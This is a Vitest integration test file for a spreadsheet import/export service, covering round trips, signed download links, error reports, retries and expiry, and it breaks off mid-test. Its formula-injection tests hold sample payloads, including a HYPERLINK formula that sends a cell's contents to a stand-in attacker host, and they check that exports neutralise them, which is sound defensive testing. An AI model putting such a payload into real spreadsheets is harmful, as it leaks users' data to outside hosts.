import JSZip from "jszip";
import { Readable } from "node:stream";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { print } from "graphql";
import { randomUUID } from "node:crypto";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { signDownload } from "../src/auth/downloadTokens.js";
import { crontab } from "../tasks/index.js";
import {
  GetErrorReportUrl,
  GetExport,
  GetExportJob,
  ListExports,
  RequestExport,
  WatchExport,
} from "./exportOperations.js";
import { cellsOf, download, isFinalExport, readXlsx, waitForExport } from "./helpers/exports.js";
import { jobHistory, recordJobHistory, retryNow, type JobVersion } from "./helpers/jobHistory.js";
import { runTaskNow } from "./helpers/jobs.js";
import { isFinal, orderColumns, uploadFile, waitForImport, xlsxFile } from "./helpers/imports.js";
import { startTestApp, type TestApp } from "./helpers/testApp.js";
import { CreateTemplate, GetJob, SignUp } from "./operations.js";

const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

let t: TestApp;
let sql: pg.Pool;

/** Every column type, so a round trip shows each keeps its type. */
const everyColumn = [
  { key: "name", header: "Name", type: "STRING" as const, required: true },
  { key: "quantity", header: "Quantity", type: "INTEGER" as const },
  { key: "price", header: "Unit Price", type: "DECIMAL" as const },
  { key: "active", header: "Active", type: "BOOLEAN" as const },
  { key: "shipDate", header: "Ship Date", type: "DATE" as const },
  { key: "shippedAt", header: "Shipped At", type: "DATETIME" as const },
  { key: "email", header: "Contact Email", type: "EMAIL" as const },
];
const headers = everyColumn.map((c) => c.header);

/** Typed cells as Excel stores them, two of them formulas with saved results. */
const fixtureRows = [
  ["Widget", 3, 9.99, true, new Date(Date.UTC(2024, 0, 15)), new Date(Date.UTC(2024, 4, 31, 14, 30)), "b@example.com"],
  ["Gadget", { formula: "4*5", result: 20 }, -0.5, false, null, null, null],
  [
    { formula: 'CONCATENATE("Giz","mo")', result: "Gizmo" },
    null,
    1000000,
    null,
    new Date(Date.UTC(2000, 1, 29)),
    new Date(Date.UTC(1999, 11, 31, 23, 59, 59)),
    null,
  ],
];
const expectedData = [
  {
    name: "Widget",
    quantity: 3,
    price: 9.99,
    active: true,
    shipDate: "2024-01-15",
    shippedAt: "2024-05-31T14:30:00.000Z",
    email: "b@example.com",
  },
  { name: "Gadget", quantity: 20, price: -0.5, active: false, shipDate: null, shippedAt: null, email: null },
  {
    name: "Gizmo",
    quantity: null,
    price: 1000000,
    active: null,
    shipDate: "2000-02-29",
    shippedAt: "1999-12-31T23:59:59.000Z",
    email: null,
  },
];

beforeAll(async () => {
  t = await startTestApp({ env: { MAX_ATTEMPTS: "2" } });
  sql = new pg.Pool({ connectionString: t.database.url });
  await recordJobHistory(t.database.url);
});

afterAll(async () => {
  await sql.end();
  await t.stop();
});

const codes = (result: { errors?: ReadonlyArray<{ extensions?: Record<string, unknown> }> }) =>
  result.errors?.map((e) => e.extensions?.code);

/** A new user's token: each describe block makes its own. */
async function newUser(): Promise<string> {
  const signUp = await t.request(SignUp, { email: `${randomUUID()}@example.com`, password: "long enough" });
  expect(signUp.errors).toBeUndefined();
  return signUp.data!.signUp.token;
}

async function createTemplate(owner: string, name: string, columns: typeof everyColumn | typeof orderColumns) {
  const created = await t.request(CreateTemplate, { input: { name, columns } }, owner);
  expect(created.errors).toBeUndefined();
  return created.data!.createImportTemplate.id;
}

async function importFile(owner: string, template: string, file: Buffer, name: string) {
  const started = await uploadFile(t, owner, template, file, name);
  expect(started.errors).toBeUndefined();
  const id = started.data!.startImport.id;
  await waitForImport(t.database.url, id, isFinal);
  return id;
}

async function recordsOf(importId: string) {
  const { rows } = await sql.query("select data from records where import_id = $1 order by row_number", [importId]);
  return rows.map((r) => r.data as Record<string, unknown>);
}

/** A new user with the "Everything" template and a COMPLETED import of the fixture rows. */
interface Owner {
  token: string;
  templateId: string;
  fixtureImport: string;
}

async function newOwner(): Promise<Owner> {
  const token = await newUser();
  const templateId = await createTemplate(token, "Everything", everyColumn);
  const fixtureImport = await importFile(token, templateId, await xlsxFile(fixtureRows, headers), "fixture.xlsx");
  expect(await recordsOf(fixtureImport)).toEqual(expectedData);
  return { token, templateId, fixtureImport };
}

type ExportInput = { templateId: string; format?: "XLSX" | "CSV"; importId?: string };

/** requestExport, which answers with the export as it wrote it: PENDING, not yet attempted, no file. */
async function requestExport(token: string, variables: ExportInput) {
  const requested = await t.request(RequestExport, variables, token);
  expect(requested.errors).toBeUndefined();
  expect(requested.data!.requestExport).toMatchObject({ status: "PENDING", attempts: 0, downloadUrl: null });
  return requested.data!.requestExport;
}

/** requestExport, then waits for the export to end and returns it as the API shows it. */
async function exportAndWait(token: string, variables: ExportInput) {
  const { id } = await requestExport(token, variables);
  await waitForExport(t.database.url, id, isFinalExport);
  const result = await t.request(GetExport, { id }, token);
  expect(result.errors).toBeUndefined();
  return result.data!.export!;
}

/** A COMPLETED import made in SQL with exactly these records, for values no upload could carry. */
async function seedImport(template: string, records: Array<Record<string, unknown>>) {
  const { rows } = await sql.query(
    `insert into imports (user_id, template_id, status, phase, file_name, file_size, file_type, rows_imported,
       template_columns, decimal_separator, date_order)
     select user_id, id, 'COMPLETED', 'DONE', 'seeded.csv', 0, 'csv', $2, columns, decimal_separator, date_order
     from import_templates where id = $1
     returning id`,
    [template, records.length],
  );
  const importId = rows[0].id as string;
  await sql.query(
    `insert into records (import_id, row_number, data)
     select $1, n::int + 1, d from jsonb_array_elements($2::jsonb) with ordinality as r(d, n)`,
    [importId, JSON.stringify(records)],
  );
  return importId;
}

describe("export round trip", () => {
  let o: Owner;
  beforeAll(async () => {
    o = await newOwner();
  });

  it("requestExport answers PENDING with a queued job and no file, then commits PROCESSING and COMPLETED", async () => {
    const requested = await requestExport(o.token, { templateId: o.templateId, importId: o.fixtureImport });
    // the row requestExport wrote, whatever the worker in this process has done since
    expect(requested).toMatchObject({
      format: "XLSX",
      rowCount: null,
      fileName: null,
      processingStartedAt: null,
      template: { id: o.templateId },
    });
    expect(requested.backgroundJobId).not.toBeNull();
    const history = await jobHistory(t.database.url, requested.id);
    expect(history.map((v) => [v.status, v.attempts, v.row_count])).toEqual([
      ["PENDING", 0, null],
      ["PROCESSING", 1, null],
      ["COMPLETED", 1, 3],
    ]);
  });

  it("writes an xlsx that exceljs reads back with the same values and types", async () => {
    const exported = await exportAndWait(o.token, {
      templateId: o.templateId,
      format: "XLSX",
      importId: o.fixtureImport,
    });
    expect(exported).toMatchObject({
      status: "COMPLETED",
      rowCount: 3,
      errorMessage: null,
      backgroundJobId: null,
      attempts: 1,
    });
    expect(exported.fileName).toMatch(/^Everything \d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(exported.downloadUrl).toMatch(new RegExp(`^/exports/${exported.id}/download\\?token=\\d+\\.[\\w-]{43}$`));
    const completed = Date.parse(exported.processingCompletedAt!);
    expect(Date.parse(exported.expiresAt!) - completed).toBeGreaterThan(24 * 3_600_000 - 2_000);
    expect(Date.parse(exported.expiresAt!) - completed).toBeLessThan(24 * 3_600_000 + 2_000);

    const { response, status, body } = await download(t, `/exports/${exported.id}/download`, o.token);
    expect(status).toBe(200);
    expect(response.headers.get("content-type")).toBe(XLSX_TYPE);
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="${exported.fileName}"; filename*=UTF-8''${encodeURIComponent(exported.fileName!)}`,
    );
    expect(body.length).toBe(exported.fileSize);

    const rows = await readXlsx(body);
    expect(rows).toHaveLength(4);
    expect(cellsOf(rows[0]!, 7).map((c) => c.value)).toEqual(headers);
    const [widget, gadget, gizmo] = rows.slice(1).map((row) => cellsOf(row, 7));
    const { ValueType } = ExcelJS;
    expect(widget!.map((c) => c.type)).toEqual([
      ValueType.String,
      ValueType.Number,
      ValueType.Number,
      ValueType.Boolean,
      ValueType.Date,
      ValueType.Date,
      ValueType.String,
    ]);
    expect(widget!.map((c) => c.value)).toEqual([
      "Widget",
      3,
      9.99,
      true,
      new Date(Date.UTC(2024, 0, 15)),
      new Date(Date.UTC(2024, 4, 31, 14, 30)),
      "b@example.com",
    ]);
    expect(widget![4]!.numFmt).toBe("yyyy-mm-dd");
    expect(widget![5]!.numFmt).toBe("yyyy-mm-dd hh:mm:ss");
    // values that came from formula cells are plain values now
    expect(gadget!.map((c) => c.value)).toEqual(["Gadget", 20, -0.5, false, null, null, null]);
    expect(gadget![1]!.type).toBe(ValueType.Number);
    expect(gizmo![0]!.type).toBe(ValueType.String);
    expect(gizmo!.map((c) => c.value)).toEqual([
      "Gizmo",
      null,
      1000000,
      null,
      new Date(Date.UTC(2000, 1, 29)),
      new Date(Date.UTC(1999, 11, 31, 23, 59, 59)),
      null,
    ]);
    for (const row of rows) for (const cell of cellsOf(row, 7)) expect(cell.formula).toBeUndefined();

    // and importing the export gives the very same records
    const again = await importFile(o.token, o.templateId, body, exported.fileName!);
    expect(await recordsOf(again)).toEqual(expectedData);
  });

  it("writes a csv that exceljs reads back with the same values and types", async () => {
    const exported = await exportAndWait(o.token, {
      templateId: o.templateId,
      format: "CSV",
      importId: o.fixtureImport,
    });
    expect(exported.errorMessage).toBeNull();
    expect(exported).toMatchObject({ status: "COMPLETED", format: "CSV", rowCount: 3 });
    expect(exported.fileName).toMatch(/^Everything \d{4}-\d{2}-\d{2}\.csv$/);
    const { response, status, body } = await download(t, exported.downloadUrl!);
    expect(status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="Everything .*\.csv"/);

    const text = body.toString("utf8");
    expect(text.startsWith("\uFEFF")).toBe(true); // so Excel reads it as UTF-8
    expect(text.slice(1).split("\r\n")).toEqual([
      '"Name","Quantity","Unit Price","Active","Ship Date","Shipped At","Contact Email"',
      '"Widget",3,9.99,true,2024-01-15,2024-05-31T14:30:00+00:00,"b@example.com"',
      '"Gadget",20,-0.5,false,,,',
      '"Gizmo",,1000000,,2000-02-29,1999-12-31T23:59:59+00:00,',
      "",
    ]);

    const workbook = new ExcelJS.Workbook();
    const sheet = await workbook.csv.read(Readable.from([text.slice(1)]));
    const values = sheet.getRows(1, 4)!.map((row) => cellsOf(row, 7).map((c) => c.value));
    expect(values[0]).toEqual(headers);
    expect(values[1]).toEqual([
      "Widget",
      3,
      9.99,
      true,
      // exceljs reads a bare date as local midnight
      new Date(2024, 0, 15),
      new Date(Date.UTC(2024, 4, 31, 14, 30)),
      "b@example.com",
    ]);
    expect(values[2]).toEqual(["Gadget", 20, -0.5, false, null, null, null]);

    const again = await importFile(o.token, o.templateId, body, "again.csv");
    expect(await recordsOf(again)).toEqual(expectedData);
  });

  it("exports every completed import of the template without importId, in upload order", async () => {
    const template = await createTemplate(o.token, "Orders", orderColumns);
    const first = await importFile(
      o.token,
      template,
      await xlsxFile([
        ["A", 1, 1],
        ["B", 2, 2],
      ]),
      "1.xlsx",
    );
    const failed = await importFile(o.token, template, await xlsxFile([["", 1, "x"]]), "bad.xlsx");
    const second = await importFile(o.token, template, await xlsxFile([["C", 3, 3]]), "2.xlsx");
    expect((await sql.query("select status from imports where id = $1", [failed])).rows[0].status).toBe("FAILED");
    const exported = await exportAndWait(o.token, { templateId: template });
    expect(exported.rowCount).toBe(3);
    const rows = await readXlsx((await download(t, exported.downloadUrl!)).body);
    expect(rows.slice(1).map((row) => [row.getCell(1).value, row.getCell(2).value])).toEqual([
      ["A", 1],
      ["B", 2],
      ["C", 3],
    ]);
    expect([first, second]).toHaveLength(2);
  });

  it("completes an export with no records: a file with just the header row", async () => {
    const template = await createTemplate(o.token, "Empty", orderColumns);
    for (const format of ["XLSX", "CSV"] as const) {
      const exported = await exportAndWait(o.token, { templateId: template, format });
      expect(exported).toMatchObject({ status: "COMPLETED", rowCount: 0 });
      const { body } = await download(t, exported.downloadUrl!);
      if (format === "XLSX") {
        const rows = await readXlsx(body);
        expect(rows.map((row) => cellsOf(row, 6).map((c) => c.value))).toEqual([orderColumns.map((c) => c.header)]);
      } else {
        expect(body.toString("utf8")).toBe(`\uFEFF${orderColumns.map((c) => `"${c.header}"`).join(",")}\r\n`);
      }
    }
  });

  // what this checks: 25,000 rows (over 1 MiB of csv) come through the cursor whole and in order,
  // and are stored in more than one chunk. That memory stays flat while they do rests on
  // backpressure, which sheetWriter.test.ts asserts with a bound on what the writer runs ahead.
  it("exports 25,000 rows, whole and in order, into more than one stored chunk", async () => {
    const template = await createTemplate(o.token, "Many", [
      { key: "name", header: "Name", type: "STRING", required: true },
      { key: "n", header: "N", type: "INTEGER" },
    ]);
    const { rows } = await sql.query(
      `insert into imports (user_id, template_id, status, phase, file_name, file_size, file_type,
         template_columns, decimal_separator, date_order)
       select user_id, id, 'COMPLETED', 'DONE', 'many.csv', 0, 'csv', columns, decimal_separator, date_order
       from import_templates where id = $1 returning id`,
      [template],
    );
    const count = 25_000;
    await sql.query(
      `insert into records (import_id, row_number, data)
       select $1, n + 1, jsonb_build_object('name', 'Row number ' || n || repeat('x', 40), 'n', n)
       from generate_series(1, $2::int) n`,
      [rows[0].id, count],
    );
    const csv = await exportAndWait(o.token, { templateId: template, format: "CSV" });
    expect(csv.rowCount).toBe(count);
    const chunks = await sql.query(
      "select count(*)::int as n from stored_file_chunks where file_id = (select file_id from exports where id = $1)",
      [csv.id],
    );
    expect(chunks.rows[0].n).toBeGreaterThan(1); // over 1 MiB
    const lines = (await download(t, csv.downloadUrl!)).body.toString("utf8").split("\r\n");
    expect(lines).toHaveLength(count + 2);
    expect(lines[count]).toBe(`"Row number ${count}${"x".repeat(40)}",${count}`);

    const xlsx = await exportAndWait(o.token, { templateId: template, format: "XLSX" });
    const sheet = await readXlsx((await download(t, xlsx.downloadUrl!)).body);
    expect(sheet).toHaveLength(count + 1);
    expect(sheet[count]!.getCell(2).value).toBe(count);
  });
});

describe("formula injection", () => {
  let o: Owner;
  beforeAll(async () => {
    o = await newOwner();
  });

  const dangerous = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1)",
    "+1",
    "-1+2",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "=1+1",
    'plain, with "quotes"',
  ];
  let template: string;

  beforeAll(async () => {
    template = await createTemplate(o.token, "Notes", [
      { key: "note", header: "Note", type: "STRING", required: true },
      { key: "amount", header: "Amount", type: "DECIMAL" },
    ]);
    await seedImport(
      template,
      dangerous.map((note) => ({ note, amount: -1 })),
    );
  });

  it("xlsx: every text is a string cell, never a formula", async () => {
    const exported = await exportAndWait(o.token, { templateId: template, format: "XLSX" });
    const { body } = await download(t, exported.downloadUrl!);
    const rows = (await readXlsx(body)).slice(1);
    // XML reads a carriage return in text as a line feed; what matters is that it stays text
    expect(rows.map((row) => row.getCell(1).value)).toEqual(dangerous.map((note) => note.replace(/\r/g, "\n")));
    for (const row of rows) {
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(1).formula).toBeUndefined();
      expect(row.getCell(2).value).toBe(-1);
    }
    const zip = await JSZip.loadAsync(body);
    const xml = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
    expect(xml).not.toMatch(/<f[ >]/);
  });

  it("csv: text that could start a formula is prefixed with ' and quoted; numbers stay numbers", async () => {
    const exported = await exportAndWait(o.token, { templateId: template, format: "CSV" });
    const text = (await download(t, exported.downloadUrl!)).body.toString("utf8");
    const fields = parse(text, { bom: true, relax_column_count: false }) as string[][];
    expect(fields.slice(1)).toEqual(dangerous.map((note) => [/^[=+\-@\t\r]/.test(note) ? `'${note}` : note, "-1"]));
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",-1\r\n`);
    expect(text).toContain(`"'@SUM(1)",-1\r\n"'+1",-1\r\n"'-1+2",-1\r\n"'\tstarts with a tab",-1\r\n`);
    // exceljs, like a spreadsheet, reads them as text, not formulas
    const sheet = await new ExcelJS.Workbook().csv.read(Readable.from([text.slice(1)]));
    for (const row of sheet.getRows(2, dangerous.length)!) {
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      expect(String(row.getCell(1).value)).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe("download authorisation", () => {
  let o: Owner;
  let other: string;
  let exportId: string;
  let url: string;
  let bytes: Buffer;

  beforeAll(async () => {
    o = await newOwner();
    other = await newUser();
    const exported = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
    exportId = exported.id;
    url = exported.downloadUrl!;
    bytes = (await download(t, `/exports/${exportId}/download`, o.token)).body;
  });

  it("serves the owner with a bearer token, and anyone with the signed link", async () => {
    expect((await download(t, `/exports/${exportId}/download`, o.token)).status).toBe(200);
    const signed = await download(t, url);
    expect(signed.status).toBe(200);
    expect(signed.body.equals(bytes)).toBe(true);
    expect(signed.response.headers.get("cache-control")).toBe("private, no-store");
  });

  it("answers 404 to another user, exactly as for a missing id", async () => {
    const theirs = await download(t, `/exports/${exportId}/download`, other);
    const missing = await download(t, "/exports/00000000-0000-4000-8000-000000000000/download", other);
    const junk = await download(t, "/exports/not-a-uuid/download", other);
    const garbled = await download(t, "/exports/%E0%A4%A/download", other);
    expect(garbled.status).toBe(404);
    expect([theirs.status, missing.status, junk.status]).toEqual([404, 404, 404]);
    expect(theirs.body.toString()).toBe(missing.body.toString());
    expect(junk.body.toString()).toBe(missing.body.toString());
  });

  it("answers 401 without credentials, with a bad token, or with a link that is not for this file", async () => {
    const secret = (await sql.query("select secret from signing_secrets")).rows[0].secret as Buffer;
    const inAnHour = new Date(Date.now() + 3_600_000);
    const otherExport = (await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport })).id;
    const cases = [
      download(t, `/exports/${exportId}/download`),
      download(t, `/exports/${exportId}/download`, "not-a-session"),
      download(t, `${url.slice(0, -3)}abc`), // tampered
      download(t, `/exports/${exportId}/download?token=${signDownload(secret, "export", otherExport, inAnHour)}`),
      download(t, `/exports/${exportId}/download?token=${signDownload(secret, "import-errors", exportId, inAnHour)}`),
      download(
        t,
        `/exports/${exportId}/download?token=${signDownload(Buffer.alloc(32), "export", exportId, inAnHour)}`,
      ),
      // a link past its own expiry
      download(
        t,
        `/exports/${exportId}/download?token=${signDownload(secret, "export", exportId, new Date(Date.now() - 1000))}`,
      ),
    ];
    for (const result of await Promise.all(cases)) {
      expect(result.status).toBe(401);
      expect(result.response.headers.get("www-authenticate")).toBe('Bearer realm="xls-importer"');
      expect(JSON.parse(result.body.toString()).error.code).toBe("UNAUTHENTICATED");
    }
  });

  it("signs links for 15 minutes at most, and never past the file's expiry", async () => {
    const now = Date.now();
    const expiry = (link: string) => Number(/token=(\d+)\./.exec(link)![1]) * 1000;
    expect(expiry(url)).toBeLessThanOrEqual(now + 15 * 60_000);
    // an export of this test's own, since its file is made to expire in a minute
    const expiring = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
    await sql.query("update exports set expires_at = now() + interval '1 minute' where id = $1", [expiring.id]);
    const soon = (await t.request(GetExport, { id: expiring.id }, o.token)).data!.export!;
    expect(expiry(soon.downloadUrl!)).toBeLessThanOrEqual(Date.parse(soon.expiresAt!));
  });

  it("answers 410 Gone once the file expired, to the owner and to a signed link", async () => {
    const exported = await exportAndWait(o.token, {
      templateId: o.templateId,
      importId: o.fixtureImport,
      format: "CSV",
    });
    await sql.query("update exports set expires_at = now() - interval '1 second' where id = $1", [exported.id]);
    expect((await download(t, exported.downloadUrl!)).status).toBe(410);
    const gone = await download(t, `/exports/${exported.id}/download`, o.token);
    expect(gone.status).toBe(410);
    expect(JSON.parse(gone.body.toString()).error.code).toBe("GONE");
    expect((await t.request(GetExport, { id: exported.id }, o.token)).data!.export!.downloadUrl).toBeNull();
    // someone else still gets 404, not 410: they must not learn it existed
    expect((await download(t, `/exports/${exported.id}/download`, other)).status).toBe(404);
  });

  it("answers 409 while an export is not ready", async () => {
    const { rows } = await sql.query(
      `insert into exports (user_id, template_id) select user_id, id from import_templates where id = $1 returning id`,
      [o.templateId],
    );
    const pending = await download(t, `/exports/${rows[0].id}/download`, o.token);
    expect(pending.status).toBe(409);
    expect((await t.request(GetExport, { id: rows[0].id }, o.token)).data!.export!.downloadUrl).toBeNull();
  });
});

describe("import error report", () => {
  let o: Owner;
  let other: string;
  beforeAll(async () => {
    o = await newOwner();
    other = await newUser();
  });

  it("has exactly the failed rows with their original values and an Errors column", async () => {
    const template = await createTemplate(o.token, "Orders with errors", orderColumns);
    const importId = await importFile(
      o.token,
      template,
      await xlsxFile([
        ["Widget", 3, 9.99, true, new Date(Date.UTC(2024, 0, 15)), "a@example.com"], // row 2: fine
        ["", 2, "abc", "maybe", null, "not-an-email"], // row 3: four problems
        ["Thing", 1, 2], // row 4: fine
        ["Gizmo", 1.5, 1, null, null, "=cmd"], // row 5: two problems
      ]),
      "orders.xlsx",
    );
    const found = (await t.request(GetErrorReportUrl, { id: importId }, o.token)).data!.import!;
    expect(found).toMatchObject({ status: "COMPLETED", rowsFailed: 2 });
    expect(found.errorReportUrl).toMatch(new RegExp(`^/imports/${importId}/errors\\.xlsx\\?token=\\d+\\.[\\w-]{43}$`));

    const report = await download(t, found.errorReportUrl!);
    expect(report.status).toBe(200);
    expect(report.response.headers.get("content-type")).toBe(XLSX_TYPE);
    expect(report.response.headers.get("content-disposition")).toMatch(/^attachment; filename="orders errors\.xlsx"/);
    const rows = (await readXlsx(report.body)).map((row) => cellsOf(row, 7).map((c) => c.value));
    expect(rows).toEqual([
      [...orderColumns.map((c) => c.header), "Errors"],
      [null, "2", "abc", "maybe", null, "not-an-email", expect.any(String)],
      ["Gizmo", "1.5", "1", null, null, "=cmd", expect.any(String)],
    ]);
    const errors = (
      await sql.query(
        `select row_number, "column", message from import_row_errors where import_id = $1 order by row_number, id`,
        [importId],
      )
    ).rows as Array<{ row_number: number; column: string; message: string }>;
    expect(rows[1]![6]).toBe(
      errors
        .filter((e) => e.row_number === 3)
        .map((e) => `${e.column}: ${e.message}`)
        .join("\n"),
    );
    expect(rows[2]![6]).toBe(
      errors
        .filter((e) => e.row_number === 5)
        .map((e) => `${e.column}: ${e.message}`)
        .join("\n"),
    );
    expect(rows[1]![6]).toMatch(/^Name: .+\nUnit Price: .+\nActive: .+\nContact Email: .+$/);

    // the same for the owner's bearer token; 404 for anyone else, 401 for no one
    const withBearer = await download(t, `/imports/${importId}/errors.xlsx`, o.token);
    expect(withBearer.status).toBe(200);
    expect((await readXlsx(withBearer.body)).length).toBe(3);
    expect((await download(t, `/imports/${importId}/errors.xlsx`, other)).status).toBe(404);
    expect((await download(t, `/imports/${importId}/errors.xlsx`)).status).toBe(401);
    // the report imports again as it is (its Errors column is ignored): the same cells fail again
    // (the values are text now, so a message may quote a number)
    const again = await importFile(o.token, template, report.body, "orders errors.xlsx");
    const reimported = (await t.request(GetErrorReportUrl, { id: again }, o.token)).data!.import!;
    expect(reimported).toMatchObject({ status: "FAILED", rowsFailed: 2 });
    const againErrors = await sql.query(
      `select "column" from import_row_errors where import_id = $1 order by row_number, id`,
      [again],
    );
    expect(againErrors.rows.map((e) => e.column)).toEqual(errors.map((e) => e.column));
    // an export link does not open an error report
    const secret = (await sql.query("select secret from signing_secrets")).rows[0].secret as Buffer;
    const exportToken = signDownload(secret, "export", importId, new Date(Date.now() + 60_000));
    expect((await download(t, `/imports/${importId}/errors.xlsx?token=${exportToken}`)).status).toBe(401);
  });

  it("lets go of its database connection when the client goes away mid-download", async () => {
    const template = await createTemplate(o.token, "Big report", orderColumns);
    const { rows } = await sql.query(
      `insert into imports (user_id, template_id, status, phase, file_name, file_size, file_type, rows_failed,
         template_columns, decimal_separator, date_order)
       select user_id, id, 'COMPLETED', 'DONE', 'big.csv', 0, 'csv', 30000, columns, decimal_separator, date_order
       from import_templates where id = $1
       returning id`,
      [template],
    );
    const importId = rows[0].id as string;
    await sql.query(
      `insert into import_rejected_rows (import_id, row_number, raw)
       select $1, n, jsonb_build_object('name', 'Row ' || n || repeat(' padding', 20), 'unitPrice', 'abc')
       from generate_series(2, 30001) n`,
      [importId],
    );
    // more aborted downloads than the pool has connections: a leak would leave none for the last request
    for (let i = 0; i < 25; i++) {
      const controller = new AbortController();
      const response = await fetch(new URL(`/imports/${importId}/errors.xlsx`, t.url), {
        headers: { authorization: `Bearer ${o.token}` },
        signal: controller.signal,
      });
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      await reader.read();
      controller.abort();
      await reader.closed.catch(() => undefined);
    }
    const whole = await download(t, `/imports/${importId}/errors.xlsx`, o.token);
    expect(whole.status).toBe(200);
    expect(await readXlsx(whole.body)).toHaveLength(30_001);
  });

  it("is null, and 404, when no row failed", async () => {
    const found = (await t.request(GetErrorReportUrl, { id: o.fixtureImport }, o.token)).data!.import!;
    expect(found).toMatchObject({ rowsFailed: 0, errorReportUrl: null });
    expect((await download(t, `/imports/${o.fixtureImport}/errors.xlsx`, o.token)).status).toBe(404);
  });
});

describe("what another user sees", () => {
  let o: Owner;
  beforeAll(async () => {
    o = await newOwner();
  });

  it("gets NOT_FOUND for our exports, templates and imports, as for a missing id", async () => {
    const other = await newUser();
    const exported = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
    const missing = "00000000-0000-4000-8000-000000000000";
    for (const id of [exported.id, missing, "nope"]) {
      expect(codes(await t.request(GetExport, { id }, other))).toEqual(["NOT_FOUND"]);
      expect(codes(await t.request(GetJob, { id }, other))).toEqual(["NOT_FOUND"]);
    }
    expect(codes(await t.request(RequestExport, { templateId: o.templateId }, other))).toEqual(["NOT_FOUND"]);
    const theirTemplate = await createTemplate(other, "Theirs", everyColumn);
    expect(
      codes(await t.request(RequestExport, { templateId: theirTemplate, importId: o.fixtureImport }, other)),
    ).toEqual(["NOT_FOUND"]);
    expect((await t.request(ListExports, {}, other)).data!.exports.edges).toEqual([]);
  });
});

describe("requestExport input", () => {
  let o: Owner;
  beforeAll(async () => {
    o = await newOwner();
  });

  it("refuses an import that is not COMPLETED, or of another template, with BAD_USER_INPUT", async () => {
    const template = await createTemplate(o.token, "Strict", orderColumns);
    const failed = await importFile(o.token, template, await xlsxFile([["", 1, "x"]]), "bad.xlsx");
    const refused = await t.request(RequestExport, { templateId: template, importId: failed }, o.token);
    expect(codes(refused)).toEqual(["BAD_USER_INPUT"]);
    expect(refused.errors![0]!.message).toBe("Only a COMPLETED import can be exported; this one is FAILED.");
    const mismatched = await t.request(RequestExport, { templateId: template, importId: o.fixtureImport }, o.token);
    expect(codes(mismatched)).toEqual(["BAD_USER_INPUT"]);
  });

  it("shows exports through job(id) and exports(status)", async () => {
    const exported = await exportAndWait(o.token, {
      templateId: o.templateId,
      importId: o.fixtureImport,
      format: "CSV",
    });
    expect((await t.request(GetExportJob, { id: exported.id }, o.token)).data!.job).toEqual({
      __typename: "Export",
      id: exported.id,
      status: "COMPLETED",
      format: "CSV",
      rowCount: 3,
    });
    const listed = (await t.request(ListExports, { first: 500, status: "COMPLETED" }, o.token)).data!.exports.edges;
    expect(listed[0]!.node.id).toBe(exported.id); // newest first
    expect(listed.every((e) => e.node.status === "COMPLETED")).toBe(true);
  });
});

describe("watching an export", () => {
  let o: Owner;
  beforeAll(async () => {
    o = await newOwner();
  });

  it("jobStatus(id) follows it over graphql-ws to COMPLETED, with its download link", async () => {
    const client = t.wsClient({ authorization: `Bearer ${o.token}` });
    const { id } = await requestExport(o.token, { templateId: o.templateId, importId: o.fixtureImport });
    const seen: Array<{ __typename: string; status: string; downloadUrl?: string | null }> = [];
    for await (const result of client.iterate({ query: print(WatchExport), variables: { id } })) {
      expect(result.errors).toBeUndefined();
      seen.push(result.data!.jobStatus as (typeof seen)[number]);
    }
    expect(seen.every((job) => job.__typename === "Export")).toBe(true);
    expect(seen.at(-1)).toMatchObject({ status: "COMPLETED", rowCount: 3 });
    expect(seen.at(-1)!.downloadUrl).toMatch(new RegExp(`^/exports/${id}/download\\?token=`));
  });
});

describe("retries", () => {
  let o: Owner;
  beforeAll(async () => {
    o = await newOwner();
  });

  it("retries a transient failure after a backoff, PENDING with the attempt meanwhile, then completes", async () => {
    const firstAttemptFailed = (v: JobVersion) => v.status === "PENDING" && v.attempts === 1;
    await sql.query("alter table records rename to records_away");
    let requested: Awaited<ReturnType<typeof requestExport>>;
    try {
      requested = await requestExport(o.token, { templateId: o.templateId, importId: o.fixtureImport });
      await jobHistory(t.database.url, requested.id, firstAttemptFailed);
    } finally {
      await sql.query("alter table records_away rename to records");
    }
    // the retry is due after graphile-worker's backoff (e seconds after a first attempt); run it now
    const { backoffMs } = await retryNow(t.database.url, requested.backgroundJobId!);
    expect(backoffMs).toBeGreaterThan(2_000);

    const history = await jobHistory(t.database.url, requested.id);
    expect(history.map((v) => [v.status, v.attempts])).toEqual([
      ["PENDING", 0],
      ["PROCESSING", 1],
      ["PENDING", 1],
      ["PROCESSING", 2],
      ["COMPLETED", 2],
    ]);
    const waiting = history.find(firstAttemptFailed)!;
    expect(waiting.error_message).toMatch(/^Attempt 1 of 2 failed \(.*records.*\); it will be retried\.$/);
    expect(waiting.file_id).toBeNull();
    expect(history.at(-1)).toMatchObject({ row_count: 3, error_message: null, background_job_id: null });
  });
});

describe("expired files", () => {
  let o: Owner;
  beforeAll(async () => {
    o = await newOwner();
  });

  it("are deleted by the cron task, which keeps the export", async () => {
    expect(crontab).toMatch(/^\*\/15 \* \* \* \* deleteExpiredExports/m);
    const expired = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
    const fresh = await exportAndWait(o.token, { templateId: o.templateId, importId: o.fixtureImport });
    const fileOf = async (id: string) =>
      (await sql.query("select file_id from exports where id = $1", [id])).rows[0].file_id as string | null;
    const expiredFile = await fileOf(expired.id);
    await sql.query("update exports set expires_at = now() - interval '1 minute' where id = $1", [expired.id]);

